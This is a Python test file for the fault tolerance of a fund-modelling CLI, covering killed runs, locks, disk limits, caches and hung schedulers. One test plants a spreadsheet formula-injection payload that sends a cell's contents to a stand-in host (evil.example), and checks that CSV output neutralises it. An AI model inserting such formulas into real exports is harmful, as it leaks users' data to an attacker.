"""Trustworthy outputs under faults (issue 12): kills, other people's files, concurrent commands,
code changes, full disks, hung clusters, spreadsheet formulas, broken caches.

Each test reproduces a defect found on the code before this work (and failed there): a killed
run's workers kept the folder locked for good; ``--out`` deleted files the tool had not written;
``memo``/``simulate``/``optimize`` took no lock; results of other code were reused; a full disk
killed the run with ``SIGBUS``; a Dask scheduler that never answered hung the run; text cells
ran as spreadsheet formulas; a truncated cached array failed every later run.

Runs are real ``fundmodel`` processes (``python -m fundmodel.cli``) where a signal or a second
process is part of the test; the rest call :func:`fundmodel.cli.main` in this process.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from fundmodel.cli import main
from fundmodel.outdir import MARKER, output_folder

from conftest import REPO_ROOT, copy_assumptions

PROJECTS = ["mn_ree", "cd_cobalt", "cl_lithium"]


def cli(argv: list[str]) -> tuple[int, str]:
    """``fundmodel ARGV`` in this process: exit code and stderr."""
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = main(argv)
    return code, err.getvalue()


def spawn(argv: list[str], log: Path, env: dict | None = None) -> subprocess.Popen:
    """``python -m fundmodel.cli ARGV`` as a separate process (its own session), stderr to ``log``."""
    return subprocess.Popen([sys.executable, "-m", "fundmodel.cli", *argv], stdout=subprocess.DEVNULL,
                            stderr=open(log, "w"), start_new_session=True, cwd=REPO_ROOT,
                            env={**os.environ, **(env or {})})


def descendants(pid: int) -> list[int]:
    """Every live process below ``pid`` (children, grandchildren, ...), from /proc."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if fields[0] != "Z":
            children.setdefault(int(fields[1]), []).append(int(stat.parent.name))
    found, todo = [], [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            found.append(child)
            todo.append(child)
    return found


def running(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def wait_for(condition, timeout: float, what: str, proc: subprocess.Popen | None = None) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if proc is not None and proc.poll() is not None:
            raise AssertionError(f"the run ended (exit {proc.returncode}) before {what}")
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.02)


@pytest.fixture(scope="module")
def work(tmp_path_factory) -> Path:
    """Three projects, light attribution, sensitivity and stresses."""
    return copy_assumptions(tmp_path_factory.mktemp("faults") / "assumptions", PROJECTS, {
        "fund.yaml": lambda d: (d["simulation"].update(attribution_scenarios=256),
                                d["portfolio"].update(max_country_share=1.0, max_material_share=1.0)),
        "stress.yaml": lambda d: d.update(stress_scenarios=128)})


@pytest.fixture(scope="module")
def previous(work, tmp_path_factory) -> Path:
    """A complete earlier output folder (3 project memos and the portfolio memo)."""
    out = tmp_path_factory.mktemp("previous") / "out"
    code, err = cli(["run", "--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--out", str(out)])
    assert code == 0, err
    return out


# ----------------------------------------------------------------------------- 1. kill and lock-out
@pytest.mark.parametrize("sig, step", [(signal.SIGKILL, "simulation"), (signal.SIGTERM, "simulation"),
                                       (signal.SIGTERM, "memos")])
def test_a_killed_run_leaves_no_process_behind_and_the_next_run_proceeds(work, tmp_path, sig, step):
    """Workers die with the run within 2 s; SIGTERM is a clean exit 143; the folder is never locked out."""
    out, log = tmp_path / "out", tmp_path / "run.stderr"
    scenarios = "60000" if step == "simulation" else "256"
    proc = spawn(["run", "--assumptions", str(work), "--scenarios", scenarios, "--workers", "2", "--out", str(out)],
                 log)
    try:
        if step == "simulation":  # the two workers are simulating chunks
            wait_for(lambda: list(out.glob(".run.tmp-*/.simulation.tmp-*/scenarios"))
                     and len(descendants(proc.pid)) >= 2, 120, "the simulation workers", proc)
        else:  # the memo workers (a forkserver and its children) are rendering
            wait_for(lambda: list(out.glob(".run.tmp-*/.memos.tmp-*/*.html")), 180, "the first memo", proc)
        family = descendants(proc.pid)
        assert family, "the run has worker processes"
        os.kill(proc.pid, sig)
        code = proc.wait(60)
        killed_at = time.monotonic()
        wait_for(lambda: not any(running(p) for p in family), 2.0, "the workers to die with the run")
        assert time.monotonic() - killed_at <= 2.0
    finally:
        if proc.poll() is None:
            proc.kill()
        for pid in descendants(proc.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
    err = log.read_text()
    if sig == signal.SIGTERM:
        assert code == 143 and "terminated (SIGTERM); previous results left untouched" in err, (code, err)
        assert "Traceback" not in err
        assert not list(out.glob(".run.*")), "a terminated run removes its stage"
    else:
        assert code == -signal.SIGKILL
    # the folder is not locked out: the next run proceeds (and removes what a killed run left)
    code, err = cli(["run", "--assumptions", str(work), "--scenarios", "64", "--workers", "1", "--project",
                     "mn_ree", "--out", str(out)])
    assert code == 0, err
    assert not list(out.glob(".run.*")) and not list(out.glob(".*.tmp-*"))


def test_the_output_lock_is_not_inherited_by_child_processes(tmp_path):
    """A child forked while the run holds the lock does not hold it once the run lets go."""
    out = tmp_path / "out"
    with output_folder(out, write=True):
        child = os.fork()
        if child == 0:  # pragma: no cover - the child: outlives the lock's holder
            time.sleep(5)
            os._exit(0)
    try:
        probe = subprocess.run([sys.executable, "-c", "import sys\nfrom fundmodel.outdir import output_folder\n"
                                "with output_folder(sys.argv[1], write=True): print('locked')", str(out)],
                               capture_output=True, text=True, cwd=REPO_ROOT, timeout=60)
        assert running(child), "the child is still alive"
        assert probe.returncode == 0 and "locked" in probe.stdout, probe.stderr
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def _hold(out: Path, *, write: bool = True, command: str = "fundmodel run") -> subprocess.Popen:
    """Another process holding ``out``'s lock (for writing, or shared for reading) until killed."""
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time\nfrom fundmodel.outdir import output_folder\n"
                               "with output_folder(sys.argv[1], write=sys.argv[2] == 'w', command=sys.argv[3]):\n"
                               "    print('held', flush=True); time.sleep(120)", str(out), "w" if write else "r",
                               command], stdout=subprocess.PIPE, text=True, cwd=REPO_ROOT)
    assert holder.stdout.readline().strip() == "held"
    return holder


def test_a_refused_command_names_who_holds_the_folder(tmp_path):
    out = tmp_path / "out"
    holder = _hold(out, command="fundmodel run --seed 7")
    try:
        code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "64",
                         "--out", str(out), "--quiet"])
        assert code == 2
        assert f"another fundmodel process (pid {holder.pid}: fundmodel run --seed 7" in err, err
    finally:
        holder.kill()
        holder.wait()
    assert cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "64", "--out",
                str(out), "--quiet", "--no-attribution", "--workers", "1"])[0] == 0  # holder gone: free


# ----------------------------------------------------------------------------- 2. files the tool did not write
def test_user_files_beside_the_results_survive_every_command(work, previous, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    mine = {"simulation/my_model.xlsx": b"PK\x03\x04 the analyst's workbook", "portfolio/plan.docx": b"plan",
            "memos/board_notes.txt": b"notes for the board", "memos/drafts/v2.txt": b"a draft", "README.txt": b"hi"}
    for rel, data in mine.items():
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_bytes(data)
    before = {p.name: p.read_bytes() for p in (out / "memos").glob("*.pdf")}
    assert before
    for argv in (["simulate", "--seed", "11", "--scenarios", "64", "--quiet", "--no-attribution"],
                 ["optimize", "--seed", "11", "--scenarios", "64"], ["memo", "--project", "cd_cobalt"],
                 ["run", "--seed", "12", "--scenarios", "64", "--project", "mn_ree"]):
        code, err = cli([*argv, "--assumptions", str(work), "--workers", "1", "--out", str(out)])
        assert code == 0, (argv, err)
        for rel, data in mine.items():
            assert (out / rel).read_bytes() == data, f"{argv[0]} removed or changed {rel}"
    # the user's files are not listed as the tool's
    for step in ("simulation", "portfolio", "memos"):
        files = json.loads((out / step / "manifest.json").read_text())["files"]
        assert not any(rel.endswith((".xlsx", ".docx", ".txt")) for rel in files), files
    # memos of projects not asked for by --project stay in place
    assert sorted(p.name for p in (out / "memos").glob("*.pdf")) == sorted(before)


def test_a_folder_that_is_not_a_fundmodel_output_is_refused(tmp_path):
    foreign = tmp_path / "documents"
    foreign.mkdir()
    (foreign / "thesis.tex").write_text("mine")
    for target in (foreign, Path("/")):
        code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "64",
                         "--out", str(target), "--quiet"])
        assert code == 2 and "is not a fundmodel output" in err, err
    assert sorted(p.name for p in foreign.iterdir()) == ["thesis.tex"], "nothing written into it"
    assert not (Path("/") / "simulation").exists()
    # a file, not a folder
    (tmp_path / "file").write_text("x")
    code, err = cli(["run", "--assumptions", str(REPO_ROOT / "assumptions"), "--out", str(tmp_path / "file")])
    assert code == 2 and "is a file" in err
    # hidden files (reports/.gitkeep) and a killed run's leftovers do not make a folder foreign
    reports = tmp_path / "reports"
    (reports / ".run.tmp-dead" / "simulation").mkdir(parents=True)
    (reports / ".gitkeep").write_text("")
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "64",
                     "--workers", "1", "--no-attribution", "--quiet", "--out", str(reports)])
    assert code == 0, err
    assert sorted(p.name for p in reports.iterdir()) == [MARKER, ".gitkeep", ".lock", "simulation"]


def test_a_home_folder_a_repository_and_a_result_subfolder_are_refused(tmp_path, monkeypatch, previous):
    """Hidden entries other than a placeholder or a killed run's leftovers are someone else's."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    for target, says in ((home, "your home folder"), (repo, ".git")):
        code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "64",
                         "--out", str(target), "--quiet"])
        assert code == 2 and says in err and "is not a fundmodel output" in err, err
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"] and sorted(p.name for p in repo.iterdir()) == [".git"]
    code, err = cli(["optimize", "--out", str(previous / "memos")])
    assert code == 2 and f"--out {previous}" in err, err


def test_a_dead_writer_is_never_named_as_the_holder(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / MARKER).write_text("{}")
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (out / ".lock").write_text(json.dumps({"pid": dead.pid, "command": "fundmodel run", "since_utc": "x"}))
    reader = _hold(out, write=False)
    try:
        code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "64",
                         "--out", str(out), "--quiet"])
        assert code == 2 and "is reading this folder" in err and str(dead.pid) not in err, err
    finally:
        reader.kill()
        reader.wait()


def test_an_installed_copy_outside_the_work_tree_records_no_commit(tmp_path):
    """A non-editable install in an ignored .venv inside the repository is not the commit's code."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git = ["git", "-C", str(repo), "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q"], check=True)
    (repo / ".gitignore").write_text(".venv/\n")
    subprocess.run([*git, "add", ".gitignore"], check=True)
    subprocess.run([*git, "commit", "-qm", "init"], check=True)
    site = repo / ".venv" / "site-packages"
    shutil.copytree(REPO_ROOT / "fundmodel", site / "fundmodel", ignore=shutil.ignore_patterns("__pycache__"))
    res = subprocess.run([sys.executable, "-c", "from fundmodel.provenance import git_state; print(git_state())"],
                         capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(site)}, cwd=tmp_path,
                         timeout=60)
    assert res.stdout.strip() == "(None, None)", res.stdout + res.stderr


def test_memos_kept_beside_newer_results_are_named(work, previous, tmp_path):
    """`--project` keeps the other memos (as asked) but says they come from other results."""
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    pid = PROJECTS[0]
    code, err = cli(["memo", "--assumptions", str(work), "--project", pid, "--out", str(out)])
    assert code == 0 and "note:" not in err, err  # same results: nothing is stale
    code, err = cli(["run", "--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--seed", "7",
                     "--project", pid, "--out", str(out)])
    assert code == 0, err
    others = [p for p in PROJECTS if p != pid]
    assert f"note: {len(others)} other memo(s) in memos/" in err and all(p in err for p in others), err
    assert all((out / "memos" / f"{p}.pdf").exists() for p in others)


# ----------------------------------------------------------------------------- 3. mixed results
def test_every_command_takes_the_folders_lock(work, previous, tmp_path):
    """While a run writes, memo, simulate and optimize are refused; so is reading it as a baseline."""
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    snapshot = {p: p.read_bytes() for p in out.rglob("*") if p.is_file() and p.name != ".lock"}
    holder = _hold(out)
    try:
        for argv in (["memo"], ["simulate", "--quiet"], ["optimize"]):
            code, err = cli([*argv, "--assumptions", str(work), "--out", str(out), "--workers", "1"])
            assert code == 2 and "is writing to this folder" in err, (argv, err)
        other = tmp_path / "other"
        code, err = cli(["run", "--assumptions", str(work), "--scenarios", "64", "--workers", "1", "--project",
                         "mn_ree", "--out", str(other), "--baseline", str(out)])
        assert code == 2 and f"{out}: another fundmodel process" in err, err
        assert not (other / "simulation").exists()
    finally:
        holder.kill()
        holder.wait()
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file() and p.name != ".lock"} == snapshot


def test_readers_share_the_folder(previous):
    """Two readers at once (shared locks); a writer waits for neither in vain: it is refused at once."""
    reader = subprocess.Popen([sys.executable, "-c", "import sys, time\nfrom fundmodel.outdir import output_folder\n"
                               "with output_folder(sys.argv[1], write=False):\n"
                               "    print('reading', flush=True); time.sleep(60)", str(previous)],
                              stdout=subprocess.PIPE, text=True, cwd=REPO_ROOT)
    try:
        assert reader.stdout.readline().strip() == "reading"
        with output_folder(previous, write=False):
            pass  # a second reader is welcome
        from fundmodel.errors import UsageError

        with pytest.raises(UsageError, match="is writing to this folder|is reading"):
            with output_folder(previous, write=True):
                pass
    finally:
        reader.kill()
        reader.wait()


# ----------------------------------------------------------------------------- 4. code in the results key
def _package_sha256() -> str:
    """An independent hash of the package's files (path and content), as the manifest must record."""
    root = REPO_ROOT / "fundmodel"
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts and path.suffix in (
                ".py", ".html", ".css", ".csv", ".md", ".json", ".yaml"):
            digest.update(path.relative_to(root).as_posix().encode() + b"\0")
            digest.update(hashlib.sha256(path.read_bytes()).digest())
    return digest.hexdigest()


def test_results_of_other_code_are_never_reused(work, previous, tmp_path):
    """A copy of the package with a changed model (prices x 1.5) must not reuse the results."""
    manifest = json.loads((previous / "simulation" / "manifest.json").read_text())
    assert manifest["code_sha256"] == _package_sha256()
    footer = (previous / "memos" / "portfolio.html").read_text()
    assert f"code {manifest['code_sha256'][:8]}" in footer
    # the same code and inputs: current; a changed copy of the package (no git there): stale
    changed = tmp_path / "pkg"
    shutil.copytree(REPO_ROOT / "fundmodel", changed / "fundmodel",
                    ignore=shutil.ignore_patterns("__pycache__"))
    market = changed / "fundmodel" / "market.py"
    market.write_text(market.read_text() + "\n# a committed model change: prices x 1.5\n")
    script = ("import sys\nfrom fundmodel.assumptions import load_assumptions\n"
              "from fundmodel.pipeline import previous_settings, results_are_current\n"
              "import fundmodel\na = load_assumptions(sys.argv[1])\n"
              "print(fundmodel.__file__, results_are_current(a, previous_settings(a, sys.argv[2]), sys.argv[2], "
              "need_portfolio=True))")
    same = subprocess.run([sys.executable, "-c", script, str(work), str(previous)], capture_output=True, text=True,
                          cwd=REPO_ROOT, timeout=120)
    assert same.stdout.split()[-1] == "True", same.stderr
    other = subprocess.run([sys.executable, "-c", script, str(work), str(previous)], capture_output=True, text=True,
                           cwd=changed, timeout=120, env={**os.environ, "PYTHONPATH": str(changed)})
    assert str(changed) in other.stdout and other.stdout.split()[-1] == "False", (other.stdout, other.stderr)


def test_a_run_by_other_code_simulates_again(work, previous, tmp_path, monkeypatch):
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    settings = ["--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--out", str(out),
                "--project", "mn_ree"]
    code, err = cli(["run", *settings])
    assert code == 0 and "simulate: reused" in err, err
    monkeypatch.setattr("fundmodel.provenance.code_sha256", lambda: "0" * 64)
    code, err = cli(["run", *settings])
    assert code == 0 and "simulate: done" in err, err
    assert json.loads((out / "manifest.json").read_text())["code_sha256"] == "0" * 64


# ----------------------------------------------------------------------------- 5. disk and memory
def test_a_run_that_does_not_fit_on_the_disk_is_refused_before_writing(tmp_path, monkeypatch):
    import collections

    usage = collections.namedtuple("usage", "total used free")
    free = 100 * 2**20
    monkeypatch.setattr("fundmodel.resources.shutil.disk_usage", lambda path: usage(10**9, 10**9 - free, free))
    out = tmp_path / "out"
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "40960",
                     "--out", str(out), "--quiet"])
    assert code == 2 and "does not fit on this machine (disk)" in err and "0.1 GB free on disk" in err, err
    # by hand: a scenario is 40 years x (8 prices + FX as float32 + a flag) = 1,480 bytes of market data
    # and, per project, 40 x (5 float32 arrays + float32 tonnes per product + a byte) + 122 bytes of
    # results (12 float64, 3 int64 years, 2 flags): 1,122 for one product (10 projects), 1,282 for two
    # (2): 15,264 bytes; the 100 MiB free less 16 MiB for the other results hold
    # (100 - 16) * 2**20 / 15,264 = 5,770 scenarios
    assert "at most about 5,770 scenarios fit" in err, err
    assert not out.exists()
    # 10^9 scenarios: refused with the figures (13 TB of scenario files), not 13.8 TB of sparse files
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "1000000000",
                     "--out", str(out), "--quiet"])
    assert code == 2 and " TB of disk" in err, err
    assert not out.exists()


def test_workers_that_do_not_fit_in_memory_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr("fundmodel.resources.memory_available_bytes", lambda: 3 * 2**30)
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "4096",
                     "--workers", "8", "--out", str(tmp_path / "out"), "--quiet"])
    assert code == 2 and "does not fit on this machine (memory)" in err, err
    assert "at most 2 --workers fit in memory" in err, err


def test_scenario_file_estimate_is_the_size_written(tmp_path):
    """The disk estimate is the size of the scenario files (their layout, not a guess)."""
    from fundmodel.assumptions import load_assumptions
    from fundmodel.resources import scenario_file_bytes

    a = load_assumptions(REPO_ROOT / "assumptions")
    code, err = cli(["simulate", "--assumptions", str(REPO_ROOT / "assumptions"), "--scenarios", "1024",
                     "--workers", "1", "--no-attribution", "--quiet", "--out", str(tmp_path)])
    assert code == 0, err
    files = list((tmp_path / "simulation" / "scenarios").rglob("*.npy"))
    data = sum(f.stat().st_size - 128 for f in files)  # numpy's header is 128 bytes here
    assert data == scenario_file_bytes(1024, a.fund.horizon_years, len(a.markets.materials),
                                       [len(p.products) for p in a.projects.values()])


def _namespace_with_small_disk(size: str, readonly: bool = False) -> list[str] | None:
    """A command prefix running in a private mount namespace with a small tmpfs at /mnt (None if impossible)."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return None
    options = f"size={size}" + (",ro" if readonly else "")
    probe = subprocess.run([unshare, "-rm", "sh", "-c", f"mount -t tmpfs -o {options} tmpfs /mnt && echo ok"],
                           capture_output=True, text=True)
    if probe.stdout.strip() != "ok":
        return None
    return [unshare, "-rm", "sh", "-c", f'mount -t tmpfs -o {options} tmpfs /mnt && exec "$@"', "sh"]


def test_a_full_disk_is_an_error_not_a_signal(tmp_path):
    """Scenario files are reserved up front: a disk that is too small is ENOSPC (exit 2), never SIGBUS."""
    prefix = _namespace_with_small_disk("6m")
    if prefix is None:
        pytest.skip("no private mount namespace here (unshare -rm, tmpfs)")
    # the writer alone, below the free-space check: rows written into files that do not fit
    script = ("import errno, numpy as np\nfrom fundmodel.assumptions import load_assumptions\n"
              "from fundmodel.simulation import ScenarioWriter\n"
              f"a = load_assumptions({str(REPO_ROOT / 'assumptions')!r})\n"
              "try:\n    w = ScenarioWriter.create('/mnt/scenarios', a, 20000)\n"
              "    w.market['price_usd_per_t'][:] = 1.0\nexcept OSError as exc:\n"
              "    print('ENOSPC' if exc.errno == errno.ENOSPC else exc)\n")
    res = subprocess.run([*prefix, sys.executable, "-c", script], capture_output=True, text=True, cwd=REPO_ROOT,
                         timeout=120)
    assert res.returncode == 0 and res.stdout.strip() == "ENOSPC", (res.returncode, res.stdout, res.stderr)
    # the command: refused with the figures before anything is written, exit 2
    res = subprocess.run([*prefix, sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                          str(REPO_ROOT / "assumptions"), "--scenarios", "20000", "--out", "/mnt/out", "--quiet"],
                         capture_output=True, text=True, cwd=REPO_ROOT, timeout=120)
    assert res.returncode == 2 and "does not fit on this machine (disk)" in res.stderr, (res.returncode, res.stderr)


def test_a_read_only_output_folder_is_exit_2(tmp_path):
    prefix = _namespace_with_small_disk("1m", readonly=True)
    if prefix is None:
        pytest.skip("no private mount namespace here (unshare -rm, tmpfs)")
    res = subprocess.run([*prefix, sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                          str(REPO_ROOT / "assumptions"), "--scenarios", "64", "--out", "/mnt/out", "--quiet"],
                         capture_output=True, text=True, cwd=REPO_ROOT, timeout=120)
    assert res.returncode == 2 and "internal error" not in res.stderr, res.stderr
    assert "read-only" in res.stderr or "not writable" in res.stderr, res.stderr


# ----------------------------------------------------------------------------- 9. smaller ones
def test_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    work = copy_assumptions(tmp_path / "assumptions", ["mn_ree"])
    project = work / "projects" / "mn_ree.yaml"
    text = project.read_text()
    line = next(li for li in text.splitlines() if li.startswith("name:"))
    project.write_text(text.replace(line, "name: " + json.dumps(hostile), 1))
    out = tmp_path / "out"
    code, err = cli(["simulate", "--assumptions", str(work), "--scenarios", "64", "--workers", "1",
                     "--no-attribution", "--quiet", "--out", str(out)])
    assert code == 0, err
    with open(out / "simulation" / "summary.csv", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["name"] == "'" + hostile, "a text cell starting with = is neutralised (OWASP)"
    assert float(row["npv_p5_meur"]) < 0 and row["npv_p5_meur"].startswith("-"), "negative numbers stay numbers"
    from fundmodel.memo import load_results

    assert load_results(out, require_portfolio=False).summary.loc["mn_ree", "name"] == hostile  # read back exactly


def test_a_truncated_cached_array_is_recomputed(work, previous, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(previous, out)
    npy = out / "simulation" / "scenarios" / "mn_ree" / "equity_cf_meur.npy"
    with open(npy, "r+b") as fh:
        fh.truncate(npy.stat().st_size // 2)
    code, err = cli(["run", "--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--project",
                     "mn_ree", "--out", str(out)])
    assert code == 0, err
    assert "simulate: done" in err, "the broken cache is not reused"
    assert np.load(npy).shape == (128, 40)


def test_a_large_cached_array_is_checked_by_its_header_and_reused(work, previous, tmp_path, monkeypatch):
    """Files above the hash limit (the default run's price arrays: 25 MB) are checked by their
    .npy header and size; the check must work on the installed numpy, and reuse must follow."""
    monkeypatch.setattr("fundmodel.io.HASH_LIMIT_BYTES", 0)  # every file is "large"
    out = tmp_path / "out"
    args = ["run", "--assumptions", str(work), "--scenarios", "128", "--workers", "1", "--project", "mn_ree",
            "--out", str(out)]
    code, err = cli(args)
    assert code == 0, err
    code, err = cli(args)
    assert code == 0 and "simulate: reused" in err, err
    npy = out / "simulation" / "scenarios" / "mn_ree" / "equity_cf_meur.npy"
    with open(npy, "r+b") as fh:  # same size, broken header: not reused
        fh.seek(8)
        fh.write(b"\xff\xff")
    code, err = cli(args)
    assert code == 0 and "simulate: done" in err, err


@contextlib.contextmanager
def _silent_server():
    """A TCP server that accepts connections and never answers (a wrong port, a stuck scheduler)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    held: list = []
    stop = threading.Event()

    def accept():
        server.settimeout(0.2)
        while not stop.is_set():
            with contextlib.suppress(OSError):
                held.append(server.accept()[0])

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    finally:
        stop.set()
        thread.join()
        for conn in held:
            conn.close()
        server.close()


def test_a_dask_scheduler_that_never_answers_is_refused(tmp_path):
    out = tmp_path / "out"
    with _silent_server() as address:
        proc = subprocess.run([sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                               str(REPO_ROOT / "assumptions"), "--scenarios", "256", "--engine", "dask",
                               "--scheduler", address, "--out", str(out), "--quiet"],
                              capture_output=True, text=True, cwd=REPO_ROOT, timeout=90,
                              env={**os.environ, "FUNDMODEL_DASK_CONNECT_TIMEOUT": "3"})
    assert proc.returncode == 2 and f"cannot reach the Dask scheduler at '{address}'" in proc.stderr, proc.stderr
    assert not out.exists()


def test_a_dask_cluster_without_workers_times_out(tmp_path):
    port_probe = socket.socket()
    port_probe.bind(("127.0.0.1", 0))
    port = port_probe.getsockname()[1]
    port_probe.close()
    scheduler = subprocess.Popen([sys.executable, "-m", "distributed.cli.dask_scheduler", "--host", "127.0.0.1",
                                  "--port", str(port), "--no-dashboard"], stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while True:
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert time.monotonic() < deadline, "the scheduler did not start"
            time.sleep(0.2)
        proc = subprocess.run([sys.executable, "-m", "fundmodel.cli", "simulate", "--assumptions",
                               str(REPO_ROOT / "assumptions"), "--scenarios", "256", "--engine", "dask",
                               "--scheduler", f"tcp://127.0.0.1:{port}", "--out", str(tmp_path / "out"), "--quiet",
                               "--no-attribution"],
                              capture_output=True, text=True, cwd=REPO_ROOT, timeout=120,
                              env={**os.environ, "FUNDMODEL_DASK_TASK_TIMEOUT": "3"})
    finally:
        scheduler.kill()
        scheduler.wait()
    assert proc.returncode == 2 and "returned no result for 3 s" in proc.stderr, proc.stderr
    assert not (tmp_path / "out" / "simulation").exists()


def test_an_overflowing_figure_names_its_input(tmp_path):
    """The last line of defence behind the schema's bounds: non-finite figures are never written."""
    from fundmodel.assumptions import load_assumptions
    from fundmodel.io import NonFiniteResult
    from fundmodel.sampling import ScenarioStreams
    from fundmodel.simulation import check_finite, simulate_chunk

    a = load_assumptions(copy_assumptions(tmp_path / "assumptions", ["mn_ree"]))
    chunk = simulate_chunk(a, ScenarioStreams(1, a.fund.simulation.sampling), 0, 8)
    check_finite(a, chunk)  # a normal chunk passes
    k = chunk.market.materials.index("ndpr")
    chunk.market.price_usd_per_t[k, 3, 5] = np.inf
    with pytest.raises(NonFiniteResult, match=r"markets.yaml: materials.ndpr: .* inf USD/t \(scenario 3, year 5\)"):
        check_finite(a, chunk)
    chunk.market.price_usd_per_t[k, 3, 5] = 1.0
    chunk.projects["mn_ree"].values.equity_cf_meur[2, 7] = 1e39  # beyond float32: the files would hold inf
    with pytest.raises(NonFiniteResult, match=r"projects/mn_ree.yaml: the equity cash flow .* \(scenario 2, year 7\)"):
        check_finite(a, chunk)
